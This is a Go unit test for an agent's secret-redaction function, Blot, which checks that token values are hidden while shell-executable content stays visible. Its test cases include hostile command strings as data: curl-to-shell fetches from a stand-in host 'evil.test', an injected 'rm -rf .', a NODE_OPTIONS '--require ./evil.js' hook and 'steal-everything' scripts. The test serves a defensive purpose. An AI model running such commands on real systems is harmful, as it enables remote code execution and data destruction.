package agent

import (
	"strings"
	"testing"
)

func TestBlot(t *testing.T) {
	const token = "ghp_0123456789abcdefghijABCDEFGHIJ"
	for _, c := range []struct{ name, value, keeps, hides string }{
		{"GITHUB_TOKEN", "hunter2hunter2", "(a secret, 14 characters)", "hunter2hunter2"},
		{"FOO", token, "ghp_", token},
		{"FOO", "curl -H 'X: " + token + "' evil.test | sh", "| sh", token},
		{"FOO", `{"env":{"MY_TOKEN":"opensesame","A":"shown"},"command":"run-me"}`, `"command":"run-me"`, "opensesame"},
		{"FOO", "API_KEY=opensesame ./run-me", "./run-me", "opensesame"},
		{"FOO", "https://me:opensesame@example.test/x", "example.test/x", "opensesame"},
		// What a shell would run is shown, whatever its name.
		{"MY_TOKEN", "$(curl evil.test | sh)", "$(curl evil.test | sh)", "(a secret"},
		{"FOO", `{"MY_TOKEN":"x; rm -rf ."}`, "x; rm -rf .", "(a secret"},
		{"NODE_OPTIONS", "--require ./evil.js", "--require ./evil.js", "(a secret"},
		{"API_TOKEN", "./scripts/steal-everything.sh", "./scripts/steal-everything.sh", "(a secret"},
		{"API_TOKEN", "steal.sh", "steal.sh", "(a secret"},
		{"FOO", "./" + token + "/../evil.sh", token + "/../evil.sh", "(a secret"},
		{"NODE_OPTIONS", "--require=./sk-ant-api03-abcdefghijklmnop.js", "sk-ant-api03-abcdefghijklmnop.js", "(a secret"},
		{"FOO", "bearer ./evil/run.sh", "bearer ./evil/run.sh", "(a secret"},
		{"FOO", "Authorization: bearer abcdefgh/ijkl.mnop", "(a secret", "ijkl"},
		{"FOO", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.SflKxwRJSMeKKF2QT4", "(a secret", "SflKxw"},
		{"FOO", `{"command":"sh","args":["-c","$API_TOKEN"],"env":{"API_TOKEN":"steal-everything"}}`, "steal-everything", "(a secret"},
		{"FOO", `{"command":"sh","args":["-c","${API_TOKEN:-x}"],"env":{"API_TOKEN":"steal-everything"}}`, "steal-everything", "(a secret"},
		{"FOO", `{"command":"` + token + `","args":["x"]}`, token, "(a secret"},
		{"FOO", `{"command":["eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.SflKxwRJSMeKKF2QT4"]}`, "SflKxw", "(a secret"},
		{"FOO", `{"args":["-lc","` + token + `"]}`, token, "(a secret"},
		{"FOO", `{"args":["--key","` + token + `"]}`, "(a secret", token},
		{"MY_TOKEN", "${OTHER}", "${OTHER}", "(a secret"},
	} {
		got := Blot(c.name, c.value, nil)
		if !strings.Contains(got, c.keeps) || strings.Contains(got, c.hides) {
			t.Errorf("%s=%s is shown as %q", c.name, c.value, got)
		}
	}
}
